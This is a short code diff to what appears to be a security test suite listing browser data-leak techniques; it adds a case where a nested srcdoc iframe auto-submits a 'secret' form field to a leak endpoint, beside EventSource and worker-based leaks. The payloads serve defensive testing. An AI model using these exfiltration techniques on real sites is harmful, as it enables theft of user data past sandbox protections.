@@ -50,6 +50,13 @@ export const ATTACKS: readonly Attack[] = [
       form.submit();
       ${secondsLater}`,
   }),
+  attack('x86', 'a form in a nested srcdoc document', {
+    script: `
+      const frame = document.createElement('iframe');
+      frame.srcdoc = '<form method="post" action="' + ${leak('nested-form')} + '"><input name="secret" value="1"></form><script>document.forms[0].submit()</' + 'script>';
+      document.body.append(frame);
+      ${secondsLater}`,
+  }),
   attack('x14', 'EventSource', { script: `new EventSource(${leak('events')}); ${secondsLater}` }),
   attack('x16', 'fetch in a worker made of a blob', {
     script: `
